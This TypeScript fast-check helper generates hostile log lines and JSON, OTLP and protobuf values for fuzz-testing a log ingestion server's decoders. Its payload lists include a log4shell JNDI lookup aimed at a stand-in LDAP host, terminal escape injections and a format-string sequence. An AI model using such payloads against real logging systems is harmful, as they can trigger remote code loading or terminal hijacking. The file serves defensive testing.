import fc from "fast-check";
import { SQL_AND_FTS5 } from "./fuzz/hostile-values.js";

/**
 * Hostile log lines and values for test/reliability/hostile-lines.test.ts (issue 49, "every log line is
 * attacker input"): nesting far past the input budget, huge tokens, control characters, invalid UTF-8,
 * lone surrogates, every JSON type where a string is expected, numbers at JSON's edges, prototype keys,
 * empty strings and very many keys. A line is rendered per door with that door's marker (a word of
 * letters and digits the log search finds); a line of the form `none` carries no marker at all.
 *
 * Nothing here contains what the answer checks look for (`/work/`, `node:internal`, `.ts:`, `at …(`), so
 * an answer that echoes a hostile value back is not a false alarm.
 */

// ---------------------------------------------------------------------------------------------------
// Hostile JSON values, as a small syntax tree: rendered as JSON text (so `1e999` and `-0` reach the
// server as written), as an OTLP AnyValue, or as a JavaScript value. Deep and wide values are built
// without recursion, so 20,000 levels cost the test nothing.

export type HostileValue =
  | { t: "null" }
  | { t: "bool"; v: boolean }
  /** A number as JSON text: `1e999`, `-0`, `1e-400`, a 20-digit integer. */
  | { t: "num"; text: string }
  | { t: "str"; v: string }
  | { t: "arr"; items: HostileValue[] }
  | { t: "obj"; entries: [string, HostileValue][] }
  /** Nested `n` levels: arrays, objects (`{"a": …}`) or both in turn. */
  | { t: "deep"; shape: DeepShape; n: number }
  /** One object with `keys` keys. */
  | { t: "wide"; keys: number }
  /** One array with `items` items. */
  | { t: "long"; items: number };

export type DeepShape = "array" | "object" | "mixed";

/** Numbers at and past the edges of a double and of int64, as JSON text. */
export const NUMBER_TEXTS = [
  "1e999",
  "-1e999",
  "-0",
  "-0.0",
  "1e-400",
  "5e-324",
  "1.7976931348623157e309",
  "12345678901234567890",
  "99999999999999999999",
  "-9223372036854775809",
  "18446744073709551616",
  "0.1",
  "1E+2",
  "0",
] as const;

/** Keys that name the prototype, the record's own fields, nothing, or the decode note itself. */
export const HOSTILE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "",
  " ",
  "a",
  "a.b",
  "service.name",
  "level",
  "time",
  "logwarden.decode_note",
  "\u0000",
  "\u001b[31m",
  "\ud800",
  "💥",
  "k".repeat(300),
] as const;

/** C0 (LF aside: line-framed doors take it as the end of the line), DEL and C1 characters. */
const C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).filter((c) => c !== "\n");
const C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i));

/** Terminal escape sequences and Unicode that reorders, hides or splits text. */
const ESCAPES = [
  "\u001b[31m",
  "\u001b[0m",
  "\u001b[2J\u001b[H",
  "\u001b]0;owned\u0007",
  "\u001b]8;;http://example.invalid\u001b\\link\u001b]8;;\u001b\\",
  "\u001bP+q\u001b\\",
  "\u009b31m",
  "\u0000",
  "\r",
  "\n",
  "\u007f",
  "\u202e",
  "\u2066",
  "\u200b",
  "\ufeff",
  "\u2028",
  "\u2029",
  "e\u0301",
  "😀",
] as const;

/** Lone and reversed surrogates: not text in UTF-8, `\ud800` once escaped in JSON. */
const SURROGATES = ["\ud800", "\udfff", "\udbff", "\udc00\ud800", "a\ud800b"] as const;

/** What a decoder might take as structure: a syslog head, logfmt, quotes and brackets. */
const FORMAT_PIECES = [
  "<13>",
  "<999999999>",
  "Oct 11 22:14:15 host app[1]:",
  "level=error msg=",
  "key=value",
  '"',
  "\\",
  "{",
  "}",
  "[",
  "]",
  "{}",
  "[]",
  "null",
  "NaN",
  "Infinity",
  "%s%s%n",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell lookup, as an attacker writes it
  "${jndi:ldap://example.invalid/a}",
] as const;

/** Invalid UTF-8: bytes no encoder writes, overlong forms, cut sequences, encoded surrogates. */
export const INVALID_UTF8: readonly number[][] = [
  [0xff],
  [0xfe],
  [0x80],
  [0xbf],
  [0xc0, 0x80],
  [0xc1, 0xbf],
  [0xc3],
  [0xe2, 0x82],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xe0, 0x80, 0xaf],
  [0x00],
];

/** Hostile text: fragments of every kind above and short random strings, joined. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { arbitrary: fc.constantFrom(...C0, ...C1), weight: 3 },
      { arbitrary: fc.constantFrom(...ESCAPES), weight: 3 },
      { arbitrary: fc.constantFrom(...SURROGATES), weight: 2 },
      { arbitrary: fc.constantFrom(...FORMAT_PIECES), weight: 2 },
      { arbitrary: fc.constantFrom(...SQL_AND_FTS5), weight: 1 },
      { arbitrary: fc.string({ maxLength: 12 }), weight: 3 },
      { arbitrary: fc.string({ unit: "grapheme", maxLength: 6 }), weight: 1 },
    ),
    { maxLength: 24 },
  )
  .map((parts) => parts.join(""));

/** Nesting depths: just past the budget (128), the issue's 4,500, and up to 20,000. */
export const deepDepth: fc.Arbitrary<number> = fc.oneof(
  fc.integer({ min: 129, max: 400 }),
  fc.constant(4500),
  fc.integer({ min: 400, max: 20_000 }),
);

export const hostileValue: fc.Arbitrary<HostileValue> = fc.letrec<{ value: HostileValue }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { arbitrary: fc.constant<HostileValue>({ t: "null" }), weight: 2 },
    { arbitrary: fc.boolean().map<HostileValue>((v) => ({ t: "bool", v })), weight: 1 },
    {
      arbitrary: fc.constantFrom(...NUMBER_TEXTS).map<HostileValue>((text) => ({ t: "num", text })),
      weight: 3,
    },
    { arbitrary: hostileText.map<HostileValue>((v) => ({ t: "str", v })), weight: 3 },
    {
      arbitrary: fc.array(tie("value"), { maxLength: 4 }).map<HostileValue>((items) => ({ t: "arr", items })),
      weight: 2,
    },
    {
      arbitrary: fc
        .array(fc.tuple(fc.constantFrom(...HOSTILE_KEYS), tie("value")), { maxLength: 5 })
        .map<HostileValue>((entries) => ({ t: "obj", entries })),
      weight: 3,
    },
    {
      arbitrary: fc
        .tuple(fc.constantFrom<DeepShape>("array", "object", "mixed"), deepDepth)
        .map<HostileValue>(([shape, n]) => ({ t: "deep", shape, n })),
      weight: 2,
    },
    {
      arbitrary: fc.constantFrom(10_001, 20_000).map<HostileValue>((keys) => ({ t: "wide", keys })),
      weight: 1,
    },
    {
      arbitrary: fc.constantFrom(10_001, 30_000).map<HostileValue>((items) => ({ t: "long", items })),
      weight: 1,
    },
  ),
})).value;

/** Openers and closers of `n` levels of `shape` around `leaf`. */
function nest(shape: DeepShape, n: number, leaf: string): string {
  const open: string[] = [];
  const close: string[] = [];
  for (let i = 0; i < n; i++) {
    const array = shape === "array" || (shape === "mixed" && i % 2 === 0);
    open.push(array ? "[" : '{"a":');
    close.push(array ? "]" : "}");
  }
  return open.join("") + leaf + close.reverse().join("");
}

/** `v` as JSON text, exactly as a hostile client writes it. */
export function jsonText(v: HostileValue): string {
  switch (v.t) {
    case "null":
      return "null";
    case "bool":
      return String(v.v);
    case "num":
      return v.text;
    case "str":
      return JSON.stringify(v.v); // lone surrogates come out as `\ud800` escapes
    case "arr":
      return `[${v.items.map(jsonText).join(",")}]`;
    case "obj":
      return `{${v.entries.map(([k, x]) => `${JSON.stringify(k)}:${jsonText(x)}`).join(",")}}`;
    case "deep":
      return nest(v.shape, v.n, "1");
    case "wide":
      return `{${Array.from({ length: v.keys }, (_, i) => `"k${i}":${i}`).join(",")}}`;
    case "long":
      return `[${Array.from({ length: v.items }, (_, i) => i % 10).join(",")}]`;
  }
}

/** `v` as OTLP/JSON AnyValue text: arrays as `arrayValue`, objects as `kvlistValue` (deep ones too). */
export function anyValueText(v: HostileValue): string {
  switch (v.t) {
    case "null":
      return "{}";
    case "bool":
      return `{"boolValue":${v.v}}`;
    case "num":
      return /^-?\d+$/.test(v.text) ? `{"intValue":"${v.text}"}` : `{"doubleValue":${v.text}}`;
    case "str":
      return `{"stringValue":${JSON.stringify(v.v)}}`;
    case "arr":
      return `{"arrayValue":{"values":[${v.items.map(anyValueText).join(",")}]}}`;
    case "obj":
      return `{"kvlistValue":{"values":[${v.entries
        .map(([k, x]) => `{"key":${JSON.stringify(k)},"value":${anyValueText(x)}}`)
        .join(",")}]}}`;
    case "deep": {
      const open: string[] = [];
      const close: string[] = [];
      for (let i = 0; i < v.n; i++) {
        const array = v.shape === "array" || (v.shape === "mixed" && i % 2 === 0);
        open.push(array ? '{"arrayValue":{"values":[' : '{"kvlistValue":{"values":[{"key":"a","value":');
        close.push(array ? "]}}" : "}]}}");
      }
      return `${open.join("")}{"stringValue":"x"}${close.reverse().join("")}`;
    }
    case "wide":
      return `{"kvlistValue":{"values":[${Array.from(
        { length: v.keys },
        (_, i) => `{"key":"k${i}","value":{"intValue":"${i}"}}`,
      ).join(",")}]}}`;
    case "long":
      return `{"arrayValue":{"values":[${Array.from({ length: v.items }, () => '{"intValue":"1"}').join(",")}]}}`;
  }
}

/** Levels of arrays and objects in `v` (a deep value counts its own levels). */
export function depthOf(v: HostileValue): number {
  switch (v.t) {
    case "arr":
      return 1 + Math.max(0, ...v.items.map(depthOf));
    case "obj":
      return 1 + Math.max(0, ...v.entries.map(([, x]) => depthOf(x)));
    case "deep":
      return v.n;
    case "wide":
    case "long":
      return 1;
    default:
      return 0;
  }
}

// ---------------------------------------------------------------------------------------------------
// Hostile lines.

/**
 * Where a line carries its door's marker: before the hostile part (`prefix`), as the `msg` of a JSON line
 * around it (`field`), or nowhere (`none`, counted by the decode notes its door reports).
 */
export type MarkerForm = "prefix" | "field" | "none";

export interface HostileLine {
  kind: string;
  form: MarkerForm;
  /** The line with `marker` in it: bytes for the doors that take raw bytes, text for JSON doors. */
  render(marker: string): { text: string; bytes: Buffer };
}

function textLine(kind: string, form: MarkerForm, build: (marker: string) => string): HostileLine {
  return {
    kind,
    form,
    render(marker) {
      const text = build(marker);
      return { text, bytes: Buffer.from(text, "utf8") };
    },
  };
}

/**
 * What goes before the hostile part of a `prefix` line: the marker, then four plain words. The plain
 * decoder reads a header (time, host, component) from the first tokens of a text line, and a first token
 * followed closely by a time is taken as the header's host: hostile text holding `Oct 11 22:14:15` right
 * after the marker would move the marker out of the message by design, not by a fault.
 */
const lead = (marker: string) => `${marker} hostile line follows here `;

const form3 = fc.constantFrom<MarkerForm>("prefix", "field", "none");
const form2 = fc.constantFrom<MarkerForm>("prefix", "none");

/** `[`×N, `{"a":`×N or both, past the budget, as a whole line or inside a JSON field; sometimes unbalanced. */
const nestingLine: fc.Arbitrary<HostileLine> = fc
  .record({
    shape: fc.constantFrom<DeepShape>("array", "object", "mixed"),
    n: deepDepth,
    balance: fc.constantFrom("balanced", "balanced", "balanced", "open only", "close only"),
    form: form3,
  })
  .map(({ shape, n, balance, form }) => {
    let struct = nest(shape, n, "1");
    if (balance === "open only") struct = struct.slice(0, struct.indexOf("1"));
    if (balance === "close only") struct = struct.slice(struct.indexOf("1") + 1);
    return textLine(`nesting:${shape}:${balance}`, form, (marker) =>
      form === "prefix"
        ? `${lead(marker)}${struct}`
        : form === "field"
          ? `{"msg":"${marker}","a":${struct}}`
          : `{"a":${struct}}`,
    );
  });

/** One word of up to 200 KB (bytes), no space in it. */
const hugeTokenLine: fc.Arbitrary<HostileLine> = fc
  .record({
    unit: fc.constantFrom("x", "A", "é", "😀", "%", "\u0001", "\ufffd"),
    kb: fc.oneof(fc.integer({ min: 1, max: 80 }), fc.constant(200)),
    form: form2,
  })
  .map(({ unit, kb, form }) => {
    const word = unit.repeat(Math.floor((kb * 1000) / Buffer.byteLength(unit)));
    return textLine(`huge-token:${kb}KB`, form, (marker) =>
      form === "prefix" ? `${lead(marker)}${word}` : word,
    );
  });

const controlLine: fc.Arbitrary<HostileLine> = fc
  .record({ text: hostileText, form: form2 })
  .map(({ text, form }) =>
    textLine("control", form, (marker) => (form === "prefix" ? `${lead(marker)}${text}` : text)),
  );

/** Bytes that are not UTF-8, among text: possible at the doors that take raw bytes. */
const invalidUtf8Line: fc.Arbitrary<HostileLine> = fc
  .record({
    parts: fc.array(
      fc.oneof(
        fc.constantFrom(...INVALID_UTF8).map((b) => Buffer.from(b)),
        fc.string({ maxLength: 8 }).map((s) => Buffer.from(s)),
      ),
      { minLength: 1, maxLength: 20 },
    ),
    form: form2,
  })
  .map(({ parts, form }) => {
    const hostile = Buffer.concat(parts);
    return {
      kind: "invalid-utf8",
      form,
      render(marker: string) {
        const bytes =
          form === "prefix" ? Buffer.concat([Buffer.from(lead(marker)), hostile]) : Buffer.from(hostile);
        // A JSON client cannot send these bytes inside a string it encodes: it sends what they decode to.
        return { text: bytes.toString("utf8"), bytes };
      },
    };
  });

/** Lone surrogates: in text (UTF-8 makes U+FFFD of them) and as JSON's `"\ud800"` escape in a JSON line. */
const surrogateLine: fc.Arbitrary<HostileLine> = fc
  .record({ s: fc.constantFrom(...SURROGATES), text: hostileText, form: form3 })
  .map(({ s, text, form }) =>
    textLine("lone-surrogate", form, (marker) =>
      form === "prefix"
        ? `${lead(marker)}${s} ${text}`
        : form === "field"
          ? `{"msg":"${marker}","s":${JSON.stringify(s)},"t":${JSON.stringify(text)}}`
          : `{"s":${JSON.stringify(s + text)}}`,
    ),
  );

/**
 * A JSON line whose fields hold every JSON type where a string is expected (time, level, service, host),
 * prototype keys and numbers past a double; `msg` (the body) holds the marker.
 */
const jsonFieldsLine: fc.Arbitrary<HostileLine> = fc
  .record({
    fields: fc.array(
      fc.tuple(
        fc.constantFrom(
          ...HOSTILE_KEYS,
          "time",
          "timestamp",
          "level",
          "severity",
          "service",
          "host",
          "resource",
          "attributes",
          "metadata",
        ),
        hostileValue,
      ),
      { minLength: 1, maxLength: 6 },
    ),
    form: fc.constantFrom<MarkerForm>("field", "field", "none"),
    /** Where `msg` goes among the fields: first, last or between (a cut must keep it wherever it is). */
    msgAt: fc.nat(),
  })
  .map(({ fields, form, msgAt }) => {
    const parts = fields.map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`);
    return textLine("json-fields", form, (marker) => {
      const all = [...parts];
      if (form === "field") all.splice(msgAt % (parts.length + 1), 0, `"msg":"${marker}"`);
      return `{${all.join(",")}}`;
    });
  });

/** 20,000 keys on one line. */
const manyKeysLine: fc.Arbitrary<HostileLine> = fc
  .record({
    keys: fc.constantFrom(10_001, 20_000),
    form: fc.constantFrom<MarkerForm>("field", "none"),
    msgLast: fc.boolean(),
  })
  .map(({ keys, form, msgLast }) => {
    const body = Array.from({ length: keys }, (_, i) => `"k${i}":${i % 7}`).join(",");
    return textLine(`many-keys:${keys}${msgLast ? ":msg-last" : ""}`, form, (marker) =>
      form === "none" ? `{${body}}` : msgLast ? `{${body},"msg":"${marker}"}` : `{"msg":"${marker}",${body}}`,
    );
  });

const emptyLine: fc.Arbitrary<HostileLine> = fc
  .constantFrom("", " ", "\t", "\r", "\u0000", "{}", "[]", "null", '""', "{", "}")
  .map((text) => textLine(`empty-ish:${JSON.stringify(text)}`, "none", () => text));

/** Hostile text behind a syslog head or in logfmt, so those decoders take it apart. */
const formatLine: fc.Arbitrary<HostileLine> = fc
  .record({ text: hostileText, head: fc.constantFrom("syslog", "logfmt", "syslog+json") })
  .map(({ text, head }) =>
    textLine(`format:${head}`, head === "syslog+json" ? "field" : "prefix", (marker) =>
      head === "syslog"
        ? `<13>Oct 11 22:14:15 host app[1]: ${marker} ${text}`
        : head === "logfmt"
          ? // logfmt's body is its `msg` (a bare word is a key): the marker goes there.
            `level=error msg=${marker} k=${JSON.stringify(text)} raw=${text}`
          : `<13>Oct 11 22:14:15 host app[1]: {"msg":"${marker}","a":${nest("array", 4500, "1")}}`,
    ),
  );

export const hostileLine: fc.Arbitrary<HostileLine> = fc.oneof(
  { arbitrary: nestingLine, weight: 4 },
  { arbitrary: hugeTokenLine, weight: 2 },
  { arbitrary: controlLine, weight: 3 },
  { arbitrary: invalidUtf8Line, weight: 2 },
  { arbitrary: surrogateLine, weight: 2 },
  { arbitrary: jsonFieldsLine, weight: 3 },
  { arbitrary: manyKeysLine, weight: 1 },
  { arbitrary: emptyLine, weight: 1 },
  { arbitrary: formatLine, weight: 1 },
);

// ---------------------------------------------------------------------------------------------------
// One case: a line, a value, and what goes where at the doors that take fields.

export type IngestField = "message" | "service" | "level" | "timestamp" | "metadata";

export interface HostileCase {
  line: HostileLine;
  /** `metadata` of /ingest, an attribute of OTLP, an extra field of MCP's records. */
  value: HostileValue;
  /** A field of the /ingest log that gets a value of the wrong JSON type (a 400), or none. */
  wrongType: { field: IngestField; value: HostileValue } | null;
  /** Strings for /ingest's other fields: hostile text, empty, or usual. */
  service: string;
  level: string;
  timestamp: string;
  /** The NDJSON door puts the line's raw bytes in the JSON string instead of escaping them. */
  rawBytesInNdjson: boolean;
  /** OTLP: the body as this AnyValue instead of the line (the line then goes in `msg`), and times. */
  otlpBody: HostileValue | null;
  otlpTime: string;
  /** Levels of the hand-encoded deep protobuf AnyValue (protobufjs refuses past 100 message levels). */
  protobufDepth: number;
  protobufShape: DeepShape;
  /** Whether the syslog doors put a syslog head before the line. */
  syslogHead: boolean;
}

const usualOr = (usual: string) =>
  fc.oneof(
    { arbitrary: fc.constant(usual), weight: 2 },
    { arbitrary: fc.constant(""), weight: 1 },
    { arbitrary: hostileText, weight: 2 },
  );

const nonString = hostileValue.filter((v) => v.t !== "str");

export const hostileCase: fc.Arbitrary<HostileCase> = fc.record({
  line: hostileLine,
  value: hostileValue,
  // One case in four gives a field the wrong type (the others reach the decoders).
  wrongType: fc.oneof(
    { arbitrary: fc.constant(null), weight: 3 },
    {
      arbitrary: fc.record({
        field: fc.constantFrom<IngestField>("message", "service", "level", "timestamp", "metadata"),
        value: nonString,
      }),
      weight: 1,
    },
  ),
  service: usualOr("hostile"),
  level: usualOr("ERROR"),
  timestamp: fc.oneof(
    fc.constant("2026-02-01T09:30:00Z"),
    fc.constantFrom(...NUMBER_TEXTS),
    fc.constantFrom("", "yesterday", "2026-13-45T99:99:99Z", "+275760-09-13T00:00:00.001Z", "0000-00-00"),
    hostileText,
  ),
  rawBytesInNdjson: fc.boolean(),
  otlpBody: fc.oneof({ arbitrary: fc.constant(null), weight: 2 }, { arbitrary: hostileValue, weight: 1 }),
  otlpTime: fc.constantFrom(
    '"1769938200000000000"',
    '"99999999999999999999"',
    '"18446744073709551615"',
    '"-1"',
    '"1e999"',
    "1e999",
    "-0",
    '"abc"',
    "null",
    "[]",
    "{}",
  ),
  protobufDepth: fc.oneof(fc.integer({ min: 1, max: 60 }), fc.integer({ min: 60, max: 5_000 })),
  protobufShape: fc.constantFrom<DeepShape>("array", "object", "mixed"),
  syslogHead: fc.boolean(),
});

/** A short description of a case for a failure report. */
export function describeCase(c: HostileCase): string {
  const v = (x: HostileValue) => (x.t === "deep" ? `deep:${x.shape}:${x.n}` : x.t);
  return [
    `line ${c.line.kind}/${c.line.form}`,
    `value ${v(c.value)}`,
    c.wrongType ? `wrong ${c.wrongType.field}=${v(c.wrongType.value)}` : "",
    c.otlpBody ? `otlpBody ${v(c.otlpBody)}` : "",
    `pb ${c.protobufShape}:${c.protobufDepth}`,
  ]
    .filter(Boolean)
    .join(", ");
}

// ---------------------------------------------------------------------------------------------------
// Protobuf written by hand: protobufjs' encoder refuses past 100 levels, the server's decoder must too.

function varint(n: number): number[] {
  const out: number[] = [];
  let v = n;
  while (v > 0x7f) {
    out.push((v & 0x7f) | 0x80);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return out;
}

const LEN = 2;
const tag = (field: number, wire: number) => varint((field << 3) | wire);

/** A length-delimited field holding `payload`. */
function field(n: number, payload: Buffer): Buffer {
  return Buffer.concat([Buffer.from([...tag(n, LEN), ...varint(payload.length)]), payload]);
}

/**
 * An AnyValue nested `n` levels (array_value or kvlist_value, or both in turn) around a string. Each level
 * is a prefix (tags and lengths) before the same tail, so it is built from the inside out in one pass.
 */
export function deepAnyValue(shape: DeepShape, n: number): Buffer {
  const leaf = field(1, Buffer.from("x")); // AnyValue.string_value
  let size = leaf.length;
  const prefixes: number[][] = [];
  for (let i = n - 1; i >= 0; i--) {
    const array = shape === "array" || (shape === "mixed" && i % 2 === 0);
    if (array) {
      // AnyValue{5: ArrayValue{1: AnyValue}}
      const arrayValue = [...tag(1, LEN), ...varint(size)];
      const arraySize = arrayValue.length + size;
      const anyValue = [...tag(5, LEN), ...varint(arraySize)];
      prefixes.push([...anyValue, ...arrayValue]);
      size = anyValue.length + arraySize;
    } else {
      // AnyValue{6: KeyValueList{1: KeyValue{1: "a", 2: AnyValue}}}
      const kv = [...tag(1, LEN), 1, 0x61, ...tag(2, LEN), ...varint(size)];
      const kvSize = kv.length + size;
      const list = [...tag(1, LEN), ...varint(kvSize)];
      const listSize = list.length + kvSize;
      const anyValue = [...tag(6, LEN), ...varint(listSize)];
      prefixes.push([...anyValue, ...list, ...kv]);
      size = anyValue.length + listSize;
    }
  }
  return Buffer.concat([Buffer.from(prefixes.reverse().flat()), leaf]);
}

/**
 * An ExportLogsServiceRequest of one record: `service` as the resource's service.name, `body` (raw bytes,
 * so invalid UTF-8 too) as its string body, and an attribute `deep` holding `deepValue` (an AnyValue).
 */
export function exportRequestBytes(service: string, body: Buffer, deepValue: Buffer): Buffer {
  const serviceName = Buffer.concat([
    field(1, Buffer.from("service.name")),
    field(2, field(1, Buffer.from(service))),
  ]);
  const resource = field(1, serviceName); // Resource.attributes
  const attribute = Buffer.concat([field(1, Buffer.from("deep")), field(2, deepValue)]);
  const logRecord = Buffer.concat([
    field(3, Buffer.from("ERROR")), // severity_text
    field(5, field(1, body)), // body: AnyValue.string_value
    field(6, attribute), // attributes
  ]);
  const scopeLogs = field(2, logRecord); // ScopeLogs.log_records
  const resourceLogs = Buffer.concat([field(1, resource), field(2, scopeLogs)]);
  return field(1, resourceLogs); // ExportLogsServiceRequest.resource_logs
}
